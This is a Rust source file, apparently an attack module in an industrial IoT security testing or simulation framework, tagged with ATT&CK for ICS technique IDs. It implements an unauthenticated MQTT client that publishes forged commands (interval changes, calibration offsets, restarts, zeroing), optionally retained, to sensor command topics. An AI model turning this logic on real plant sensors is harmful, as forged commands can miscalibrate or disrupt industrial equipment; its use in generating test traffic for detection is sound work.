//! Command publish: a stranger tells sensors what to do, over the topics on which the plant does.

use super::{Attack, Needs, moved};
use crate::net::mqtt::{Options, Version};
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "command-publish",
    about: "publishes commands to sensors",
    technique: moved("T0855", "T1692.001"),
    acceptable: &["T0848", "T0836"],
    grade: "A",
    kind: "fast",
    proto: "mqtt",
    variants: &["command", "retained"],
    needs: Needs::Sockets,
    seconds: [900, 60, 6],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let intruder = stage.stranger();
    let retain = stage.is("retained");
    let mut options = Options::new(Version::V311, format!("tool-{:04x}", stage.rng.word()));
    options.keep_alive = 30;
    let mut client = intruder.mqtt(options).await?;
    for _ in 0..stage.by(6, 12, 40) {
        let sensor = stage.sensor();
        let (command, payload) = match stage.rng.below(4) {
            0 => ("interval", format!("{{\"seconds\":{}}}", stage.rng.pick(&[1, 3600, 86_400]))),
            1 => ("offset", format!("{{\"value\":{:.2}}}", sensor.middle * stage.rng.within(0.3, 2.0))),
            2 => ("restart", "{}".to_owned()),
            _ => ("calibrate", "{\"zero\":true}".to_owned()),
        };
        let topic = format!("{}/{command}", sensor.commands);
        client.publish(&topic, payload.as_bytes(), 1, retain).await?;
        stage.changed(format!("{topic} {payload}"));
        client.rest(stage.by(150.0, 5.0, 0.14) * stage.rng.within(0.8, 1.2)).await?;
    }
    client.leave().await;
    Ok(())
}
